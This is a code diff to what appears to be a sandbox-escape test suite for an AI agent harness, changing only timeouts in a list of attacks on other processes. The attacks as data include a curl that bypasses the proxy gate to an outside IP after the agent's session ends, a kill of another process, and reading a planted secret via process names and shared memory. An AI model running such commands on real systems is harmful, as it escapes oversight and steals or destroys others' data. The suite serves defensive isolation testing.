@@ -32,7 +32,7 @@ const endlessRun: Patch = {
   replace: "lost: () => {},",
 };
 const outlivingTheGate = `touch ready; while ! [ -e dead ]; do sleep 0.02; done
-  curl -sS --max-time 3 http://good.test/public/$MARKER || curl -sS --noproxy '*' --max-time 3 http://203.0.113.10/$MARKER`;
+  curl -sS --max-time 3 http://good.test/public/$MARKER || curl -sS --noproxy '*' --max-time 20 http://203.0.113.10/$MARKER`;
 const sharedProcessesOnDocker = { docker: { off: { patches: [hostConfig('PidMode: "host"')] } } } as const;
 
 /** Attacks on other processes: our helpers inside, the keeper and the gate outside, the person's own. */
@@ -51,7 +51,7 @@ export const processAttacks: readonly Attack[] = [
     breaks: "1 no secret inside",
     program: "proc-environ",
     setting: {
-      prepare: `bash -c 'exec -a "$SECRET" sleep 20' >/dev/null 2>&1 &`,
+      prepare: `bash -c 'exec -a "$SECRET" sleep 600' >/dev/null 2>&1 &`,
       variables: { WANTED_HEAD: secretHead },
     },
     defence: "process namespace",
@@ -64,7 +64,7 @@ export const processAttacks: readonly Attack[] = [
     breaks: "2 sealed by the kernel",
     program: "run-shell.sh",
     setting: {
-      prepare: "$AS_AGENT sleep 60 >/dev/null 2>&1 & echo $! > victim.pid",
+      prepare: "$AS_AGENT sleep 600 >/dev/null 2>&1 & echo $! > victim.pid",
       variables: { SCRIPT: "kill -KILL $(cat victim.pid)" },
     },
     defence: "process namespace",
@@ -95,7 +95,7 @@ export const processAttacks: readonly Attack[] = [
     breaks: "2 sealed by the kernel",
     program: "shared-memory",
     setting: {
-      prepare: `(sleep 60 | $AS_AGENT /srv/programs/share-secret > ready) >/dev/null 2>&1 & while ! [ -s ready ]; do sleep 0.02; done`,
+      prepare: `(sleep 600 | $AS_AGENT /srv/programs/share-secret > ready) >/dev/null 2>&1 & while ! [ -s ready ]; do sleep 0.02; done`,
       variables: { WANTED_HEAD: secretHead },
     },
     defence: "ipc namespace",
